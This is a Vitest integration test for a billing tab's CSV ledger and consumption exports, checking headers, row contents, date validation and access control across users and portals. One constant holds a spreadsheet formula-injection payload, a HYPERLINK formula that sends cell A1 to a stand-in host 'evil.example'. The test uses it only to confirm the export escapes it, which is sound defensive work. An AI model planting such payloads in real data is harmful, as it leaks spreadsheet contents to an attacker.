import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandboxPortal, type SandboxPortal } from '../../scripts/sandbox/portal/index.js';
import {
  api,
  connectChannel,
  frontendAuth,
  installAndToken,
  SAMPLE_PORTAL,
  STACK_CLIENT_ID,
  STACK_CLIENT_SECRET,
  type DemoChannel,
} from '../../scripts/stack.js';
import { csvRecords } from '../helpers/csv.js';
import { useStack } from '../helpers/stack.js';

/**
 * The Billing tab's CSV exports through the real app (issue 12): what the ledger and the use say,
 * escaped for a spreadsheet, for the range asked; and who may not have them (no token, a user whose
 * roles do not allow billing, another portal) or with what input (bad dates) they are refused.
 */
describe('billing CSV exports', () => {
  const s = useStack({ portal: SAMPLE_PORTAL });
  let token = '';
  let ch: DemoChannel;
  let portalId = 0;
  let other: SandboxPortal;
  const today = new Date().toISOString().slice(0, 10);
  // A channel name a spreadsheet would run as a formula, with a comma and quotes in it.
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click, please")';

  const get = async (path: string, t = token) =>
    fetch(`${s.url}/api/v1${path}`, { headers: t ? { authorization: `Bearer ${t}` } : {} });

  beforeAll(async () => {
    token = await installAndToken(s);
    ch = await connectChannel(s, token, 1);
    const p = await s.deps.db
      .selectFrom('portals')
      .select('id')
      .where('member_id', '=', s.portal.memberId)
      .executeTakeFirstOrThrow();
    portalId = p.id;
    await s.deps.db.updateTable('channels').set({ name: evil }).where('id', '=', ch.id).execute();
    await s.deps.ledger.credit({
      portalId,
      units: 10,
      validityDays: 30,
      provider: 'operator',
      eventId: 'csv-1',
    });
    for (const ref of ['m-1', 'm-2', 'm-3']) {
      const r = await s.deps.ledger.reserve(portalId, ref, { channelId: ch.id });
      await s.deps.ledger.settle(r.reservationId ?? 0);
    }
    const failed = await s.deps.ledger.reserve(portalId, 'm-4', { channelId: ch.id });
    await s.deps.ledger.release(failed.reservationId ?? 0);
    other = await startSandboxPortal({
      clientId: STACK_CLIENT_ID,
      clientSecret: STACK_CLIENT_SECRET,
      oauthServer: s.portal,
    });
  });
  afterAll(async () => {
    await other?.close();
  });

  it('the ledger: every entry of the range, oldest first, as a named text/csv download', async () => {
    const r = await get(`/billing/ledger.csv?from=${today}&to=${today}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toBe(
      `attachment; filename="whatsappb24-ledger-${today}_${today}.csv"`,
    );
    expect(r.headers.get('cache-control')).toBe('no-store');
    const rows = csvRecords(await r.text());
    expect(rows.map((e) => [e.kind, e.units, e.delta_available, e.message_ref])).toEqual([
      ['credit', '10', '10', ''],
      ['reserve', '1', '-1', 'm-1'],
      ['settle', '1', '0', 'm-1'],
      ['reserve', '1', '-1', 'm-2'],
      ['settle', '1', '0', 'm-2'],
      ['reserve', '1', '-1', 'm-3'],
      ['settle', '1', '0', 'm-3'],
      ['reserve', '1', '-1', 'm-4'],
      ['release', '1', '1', 'm-4'],
    ]);
    // The name comes back whole, behind the quote that keeps a spreadsheet from running it.
    expect(rows[1]?.channel).toBe(`'${evil}`);
    expect(rows[1]?.channel_id).toBe(ch.id);
    expect(rows.every((e) => e.at?.startsWith(today))).toBe(true);
  });

  it('the use: settled units per day and channel; a range without entries has only the header', async () => {
    const r = await get(`/billing/consumption.csv?from=${today}&to=${today}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-disposition')).toContain(`whatsappb24-consumption-${today}_${today}.csv`);
    const bytes = Buffer.from(await r.arrayBuffer());
    // The UTF-8 byte order mark, then the header (fetch's text() would drop the mark).
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = bytes.toString('utf8');
    expect(text.startsWith('\uFEFFday,channel_id,channel,units\r\n')).toBe(true);
    expect(csvRecords(text)).toEqual([{ day: today, channel_id: ch.id, channel: `'${evil}`, units: '3' }]);
    const before = await get('/billing/consumption.csv?from=2020-01-01&to=2020-01-31');
    expect(csvRecords(await before.text())).toEqual([]);
    // Without dates: the last 30 days, today included.
    const recent = await get('/billing/consumption.csv');
    expect(recent.headers.get('content-disposition')).toContain(`_${today}.csv`);
    expect(csvRecords(await recent.text())).toHaveLength(1);
  });

  it('the consumption API names each channel of its series', async () => {
    const use = await api<{ series: Array<{ channelId: string; name: string; units: number[] }> }>(
      s,
      token,
      'GET',
      '/billing/consumption?days=2',
    );
    expect(use.body.series).toEqual([{ channelId: ch.id, name: evil, units: [0, 3] }]);
  });

  it('bad dates are a 400 with nothing streamed', async () => {
    for (const q of [
      'from=2026-02-30',
      'from=yesterday',
      'to=2026-1-1',
      'from=2026-03-02&to=2026-03-01',
      'from=2020-01-01&to=2026-01-01',
      'from=2020-01-01',
      'from=2026-01-01&from=2026-01-02',
      'days=3',
      'from=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-01-01',
    ]) {
      for (const what of ['ledger', 'consumption']) {
        const r = await get(`/billing/${what}.csv?${q}`);
        expect(r.status, `${what} ${q}`).toBe(400);
        expect(r.headers.get('content-type'), q).toContain('application/json');
      }
    }
  });

  it('refused without a token, to a user whose roles do not allow billing, and across portals', async () => {
    for (const what of ['ledger', 'consumption']) {
      const path = `/billing/${what}.csv`;
      expect((await get(path, '')).status).toBe(401);
      expect((await get(path, 'not-a-token-0123456789abcdef0123456789')).status).toBe(401);
      // Bruno (user 2) has no role: refused before his bad dates are even looked at.
      for (const q of ['', '?from=bad']) {
        const auth = new URLSearchParams(await frontendAuth(s, 2)).toString();
        const r = await fetch(`${s.url}/api/v1${path}${q}`, { headers: { 'x-b24-auth': auth } });
        expect(r.status, path + q).toBe(403);
      }
    }
    // Another portal's admin gets his own (empty) figures, never this portal's.
    await other.installApp({ installUrl: `${s.url}/b24/install`, mode: 'ui' });
    other.finishInstall();
    const auth = new URLSearchParams({
      DOMAIN: other.domain,
      AUTH_ID: other.issueTokens({ userId: 1 }).accessToken,
      member_id: other.memberId,
    }).toString();
    for (const what of ['ledger', 'consumption']) {
      const r = await fetch(`${s.url}/api/v1/billing/${what}.csv`, { headers: { 'x-b24-auth': auth } });
      expect(r.status).toBe(200);
      expect(csvRecords(await r.text())).toEqual([]);
    }
  });
});
